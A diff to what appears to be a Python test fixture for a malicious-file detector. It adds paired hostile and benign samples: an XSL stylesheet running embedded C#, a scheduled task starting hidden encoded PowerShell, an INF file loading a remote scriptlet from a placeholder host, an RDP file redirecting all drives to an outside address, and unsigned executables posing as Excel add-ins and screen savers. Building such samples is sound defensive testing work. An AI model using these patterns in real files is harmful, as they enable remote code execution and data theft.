@@ -44,6 +44,30 @@ BACK = (
 ASKS = b"import socket\ns=socket.socket()\ns.connect(('pacs01', 104))\ns.send(b'echo')"
 
 
+STYLED = (
+    b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt" '
+    b'xmlns:u="u"><m:script language="C#" implements-prefix="u"><![CDATA[string x(string a){%s}]]></m:script>'
+    b"</xsl:stylesheet>"
+)
+SETUP = b"[version]\r\nSignature=$chicago$\r\n[DefaultInstall]\r\nUnRegisterOCXs=A\r\n[A]\r\n%s\r\n"
+
+
+def task(starts: str, words: str) -> bytes:
+    """Return a task of Windows' scheduler ([MS-TSCH] 2.4)."""
+    texts = (struct.pack("<H", len(one) + 1) + f"{one}\0".encode("utf-16-le") for one in (starts, words, "C:\\", "a"))
+    fixed = struct.pack(
+        "<HH16sHHHHHHIIIII16s", 0x601, 1, bytes(16), 70, 0, 0, 60, 3, 10, 32, 0x41302, 0, 0, 0, bytes(16)
+    )
+    return fixed + bytes(2) + b"".join(texts)
+
+
+def program(*, signed: bool = False) -> bytes:
+    directory = bytearray(128)
+    struct.pack_into("<II", directory, 32, *((1024, 600) if signed else (0, 0)))
+    head = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 0, 0, 0, 0, 224, 0x102) + b"\x0b\1" + bytes(94) + directory
+    return (b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + head).ljust(1024, b"\0") + (bytes(600) if signed else b"")
+
+
 def relation(kind: str, target: str) -> bytes:
     return (
         f'<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
@@ -99,6 +123,20 @@ CASES = {
         SETTINGS % b"cmd.exe /c calc",
         SETTINGS % b"control.exe /name Microsoft.Display",
     ),
+    "a script in a style sheet": (
+        "a.xsl",
+        STYLED % b'System.Diagnostics.Process.Start("calc.exe");',
+        STYLED % b"return a.ToUpper();",
+    ),
+    "a planned task": ("a.job", task("powershell.exe", "-nop -w hidden -enc SQBFAFgA"), task("backup.exe", "/daily")),
+    "a setup script": ("a.inf", SETUP % rb"%11%\scrobj.dll,NI,http://e.invalid/a.sct", SETUP % b"printer.dll"),
+    "a desktop of a foreign machine": (
+        "a.rdp",
+        "full address:s:203.0.113.5\r\ndrivestoredirect:s:*\r\n".encode("utf-16"),
+        "full address:s:10.1.2.3\r\ndrivestoredirect:s:\r\n".encode("utf-16"),
+    ),
+    "an add-in of Excel": ("a.xll", program(), program(signed=True)),
+    "a screen saver": ("a.scr", program(), program(signed=True)),
     "search": ("a.search-ms", SEARCH % (rb"\\203.0.113.5@80\dav"), SEARCH % b"knownfolder:{FDD39AD0}"),
     "link of a Mac": ("a.webloc", PLIST % b"smb://203.0.113.5/x.app", PLIST % b"https://www.hospital.example/"),
     "link to a share": (
